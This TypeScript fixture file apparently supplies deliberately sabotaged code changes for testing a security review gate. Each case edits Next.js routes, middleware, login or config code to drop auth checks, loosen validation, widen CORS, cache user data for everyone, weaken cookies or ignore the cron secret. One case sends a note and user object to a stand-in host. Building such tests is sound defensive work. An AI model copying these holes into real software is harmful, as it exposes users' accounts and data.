import { edit, type GateCase } from './case.ts'

/** Second round: subtle sabotage in other hands' style. */
function change(
  name: string,
  bad: string,
  base: Record<string, string>,
  files: Record<string, string | null>,
): GateCase {
  return { name, bad, base, change: files }
}

const NOTES = `import { NextRequest, NextResponse } from "next/server";
import { z } from "zod";
import { createClient } from "@/utils/supabase/server";
import { requireAdmin } from "@/lib/auth";

const bodySchema = z.object({
  title: z.string().min(1).max(120),
  visibility: z.enum(["private", "team"]),
  tags: z.array(z.string().max(30)).max(10),
});

export async function POST(req: NextRequest) {
  const supabase = await createClient();
  const { data: { user } } = await supabase.auth.getUser();
  if (!user) return NextResponse.json({ error: "Unauthorized" }, { status: 401 });
  const body = bodySchema.safeParse(await req.json());
  if (!body.success) return NextResponse.json({ error: "Invalid body" }, { status: 400 });
  const { data, error } = await supabase.from("notes").insert({ ...body.data, user_id: user.id }).select("id").single();
  if (error) return NextResponse.json({ error: "Could not save" }, { status: 500 });
  return NextResponse.json({ id: data.id }, { status: 201 });
}

export async function DELETE(req: NextRequest) {
  await requireAdmin();
  const supabase = await createClient();
  const id = z.string().uuid().parse(req.nextUrl.searchParams.get("id"));
  const { error } = await supabase.from("notes").delete().eq("id", id);
  if (error) return NextResponse.json({ error: "Could not delete" }, { status: 500 });
  return NextResponse.json({ ok: true });
}

export async function GET(req: NextRequest) {
  const supabase = await createClient();
  const { data: { user } } = await supabase.auth.getUser();
  if (!user) return NextResponse.json({ error: "Unauthorized" }, { status: 401 });
  const limit = Math.min(Number(req.nextUrl.searchParams.get("limit")) || 20, 100);
  const { data } = await supabase.from("notes").select("id, title").eq("user_id", user.id).limit(limit);
  return NextResponse.json(data);
}
`
const notes = { 'app/api/notes/route.ts': NOTES }
const onNotes = (name: string, bad: string, from: string, to: string) =>
  change(name, bad, notes, { 'app/api/notes/route.ts': edit(NOTES, from, to) })
const READ = `.from("notes").select("id, title").eq("user_id", user.id).limit(limit)`

const CRON = `import { NextResponse } from "next/server";

export async function GET(req: Request) {
  if (req.headers.get("authorization") !== \`Bearer \${process.env.CRON_SECRET}\`) {
    return new NextResponse("Unauthorized", { status: 401 });
  }
  await fetch("https://api.internal.example/sweep", { method: "POST" });
  return NextResponse.json({ ok: true });
}
`

const MIDDLEWARE = `import { NextResponse, type NextRequest } from "next/server";
import { updateSession } from "@/utils/supabase/middleware";

const publicPaths = ["/", "/login", "/signup"];

export async function middleware(req: NextRequest) {
  const { response, user } = await updateSession(req);
  const { pathname } = req.nextUrl;
  if (!user && !publicPaths.includes(pathname)) {
    return NextResponse.redirect(new URL("/login", req.url));
  }
  if (pathname.startsWith("/admin") && user?.app_metadata.role !== "admin") {
    return NextResponse.redirect(new URL("/", req.url));
  }
  return response;
}
`
const middleware = { 'middleware.ts': MIDDLEWARE }
const onMiddleware = (name: string, bad: string, from: string, to: string) =>
  change(name, bad, middleware, { 'middleware.ts': edit(MIDDLEWARE, from, to) })

const LOGIN = `"use server";
import { cookies } from "next/headers";
import bcrypt from "bcryptjs";
import { db } from "@/lib/db";

export async function login(email: string, password: string) {
  const user = await db.user.findUnique({ where: { email } });
  if (!user || !(await bcrypt.compare(password, user.passwordHash))) {
    return { error: "Wrong email or password" };
  }
  (await cookies()).set("session", await issue(user.id), { httpOnly: true, secure: true, sameSite: "lax", maxAge: 60 * 60 * 24 });
  return { ok: true };
}

async function issue(id: string) {
  return db.session.create({ data: { userId: id } }).then((s) => s.token);
}
`

export const ROUND_BAD: GateCase[] = [
  onNotes(
    'identity from a header',
    'auth-check-lost',
    `  const { data: { user } } = await supabase.auth.getUser();
  if (!user) return NextResponse.json({ error: "Unauthorized" }, { status: 401 });
  const limit`,
    `  const user = { id: req.headers.get("x-user-id") ?? "" };
  const limit`,
  ),
  onNotes(
    'owner from the query string',
    'validation-lost',
    '.eq("user_id", user.id).limit',
    '.eq("user_id", req.nextUrl.searchParams.get("user") ?? user.id).limit',
  ),
  onNotes('admin becomes user', 'role-check-lost', '  await requireAdmin();\n', '  await requireUser();\n'),
  onNotes('admin not asked', 'auth-check-lost', '  await requireAdmin();\n', ''),
  onNotes(
    'admin asked, not waited for',
    'auth-check-lost',
    '  await requireAdmin();\n',
    '  requireAdmin().catch(() => {});\n',
  ),
  onNotes('another value allowed', 'validation-loosened', '["private", "team"]', '["private", "team", "public"]'),
  onNotes(
    'field no longer required',
    'validation-loosened',
    'title: z.string().min(1).max(120)',
    'title: z.string().min(1).max(120).optional()',
  ),
  onNotes('list without an end', 'validation-loosened', '.max(30)).max(10)', '.max(30))'),
  onNotes(
    'page size chosen by the caller',
    'validation-lost',
    'Math.min(Number(req.nextUrl.searchParams.get("limit")) || 20, 100)',
    'Number(req.nextUrl.searchParams.get("limit")) || 20',
  ),
  onNotes(
    'failure told as success',
    'error-swallowed',
    '  if (error) return NextResponse.json({ error: "Could not delete" }, { status: 500 });\n',
    '',
  ),
  onNotes('all columns of the row', 'columns-widened', READ, READ.replace('id, title', '*')),
  onNotes(
    'origin of the caller reflected',
    'cors-widened',
    '  return NextResponse.json(data);',
    '  return NextResponse.json(data, { headers: { "Access-Control-Allow-Origin": req.headers.get("origin") ?? "*", "Access-Control-Allow-Credentials": "true" } });',
  ),
  onNotes(
    'stale answers for everybody',
    'user-data-in-shared-cache',
    '  return NextResponse.json(data);',
    '  return NextResponse.json(data, { headers: { "CDN-Cache-Control": "max-age=60", "Cache-Control": "s-maxage=60, stale-while-revalidate" } });',
  ),
  change('list kept in a closure of unstable_cache', 'user-data-in-shared-cache', notes, {
    'app/api/notes/route.ts': edit(
      edit(
        NOTES,
        `  const { data } = await supabase${READ};`,
        `  const data = await unstable_cache(async () => (await supabase${READ}).data, ["notes"], { revalidate: 30 })();`,
      ),
      'import { z } from "zod";',
      'import { unstable_cache } from "next/cache";\nimport { z } from "zod";',
    ),
  }),
  onNotes(
    'body in the logs',
    'sensitive-log',
    '  const { data, error } = await supabase.from("notes").insert',
    '  console.log("create note", body.data, req.headers);\n  const { data, error } = await supabase.from("notes").insert',
  ),
  onNotes(
    'token of somebody else sent along',
    'data-sent-out',
    '  return NextResponse.json({ id: data.id }, { status: 201 });',
    '  await fetch("https://hooks.example.org/notes", { method: "POST", body: JSON.stringify({ note: data, user }) });\n  return NextResponse.json({ id: data.id }, { status: 201 });',
  ),
  change(
    'secret of the job not compared',
    'signature-check-lost',
    { 'app/api/cron/route.ts': CRON },
    {
      'app/api/cron/route.ts': edit(
        CRON,
        // biome-ignore lint/suspicious/noTemplateCurlyInString: source text of the case
        'if (req.headers.get("authorization") !== `Bearer ${process.env.CRON_SECRET}`)',
        'if (!req.headers.get("authorization"))',
      ),
    },
  ),
  change(
    'secret of the job optional',
    'signature-check-lost',
    { 'app/api/cron/route.ts': CRON },
    { 'app/api/cron/route.ts': edit(CRON, 'if (req.headers', 'if (process.env.CRON_SECRET && req.headers') },
  ),
  onMiddleware('one more public path', 'proxy-narrowed', '"/signup"]', '"/signup", "/dashboard"]'),
  onMiddleware(
    'API let through',
    'proxy-narrowed',
    '  if (!user && !public',
    '  if (pathname.startsWith("/api")) return response;\n  if (!user && !public',
  ),
  onMiddleware(
    'admins only by name',
    'role-check-lost',
    '  if (pathname.startsWith("/admin") && user?.app_metadata.role !== "admin")',
    '  if (pathname.startsWith("/admin") && user?.user_metadata.role !== "admin")',
  ),
  onMiddleware(
    'a matcher where there was none',
    'proxy-narrowed',
    'export async function middleware',
    'export const config = { matcher: ["/dashboard/:path*"] };\n\nexport async function middleware',
  ),
  change(
    'password not compared',
    'auth-check-lost',
    { 'app/login/actions.ts': LOGIN },
    { 'app/login/actions.ts': edit(LOGIN, '!user || !(await bcrypt.compare(password, user.passwordHash))', '!user') },
  ),
  change(
    'session for ten years',
    'cookie-weakened',
    { 'app/login/actions.ts': LOGIN },
    { 'app/login/actions.ts': edit(LOGIN, 'maxAge: 60 * 60 * 24 }', 'maxAge: 60 * 60 * 24 * 3650 }') },
  ),
  change(
    'cookie for every site',
    'cookie-weakened',
    { 'app/login/actions.ts': LOGIN },
    { 'app/login/actions.ts': edit(LOGIN, 'sameSite: "lax"', 'sameSite: "none"') },
  ),
  change(
    'images from anywhere',
    'config-weakened',
    {
      'next.config.mjs':
        'export default { images: { remotePatterns: [{ protocol: "https", hostname: "cdn.example.com" }] } };\n',
    },
    { 'next.config.mjs': 'export default { images: { remotePatterns: [{ protocol: "https", hostname: "**" }] } };\n' },
  ),
  change(
    'requests handed on to somebody else',
    'config-weakened',
    { 'next.config.mjs': 'export default {};\n' },
    {
      'next.config.mjs':
        'export default { async rewrites() { return [{ source: "/api/:path*", destination: "https://proxy.example.net/:path*" }]; } };\n',
    },
  ),
  change(
    'build errors ignored',
    'config-weakened',
    { 'next.config.mjs': 'export default {};\n' },
    { 'next.config.mjs': 'export default { typescript: { ignoreBuildErrors: true } };\n' },
  ),
  change(
    'client of one user kept for all',
    'user-data-in-shared-cache',
    {
      'lib/supabase.ts':
        'import { createServerClient } from "@supabase/ssr";\nimport { cookies } from "next/headers";\n\nexport async function getClient() {\n  const store = await cookies();\n  return createServerClient(process.env.NEXT_PUBLIC_SUPABASE_URL!, process.env.NEXT_PUBLIC_SUPABASE_ANON_KEY!, { cookies: { getAll: () => store.getAll(), setAll() {} } });\n}\n',
    },
    {
      'lib/supabase.ts':
        'import { createServerClient } from "@supabase/ssr";\nimport { cookies } from "next/headers";\n\nlet client: ReturnType<typeof createServerClient> | undefined;\n\nexport async function getClient() {\n  if (client) return client;\n  const store = await cookies();\n  client = createServerClient(process.env.NEXT_PUBLIC_SUPABASE_URL!, process.env.NEXT_PUBLIC_SUPABASE_ANON_KEY!, { cookies: { getAll: () => store.getAll(), setAll() {} } });\n  return client;\n}\n',
    },
  ),
]
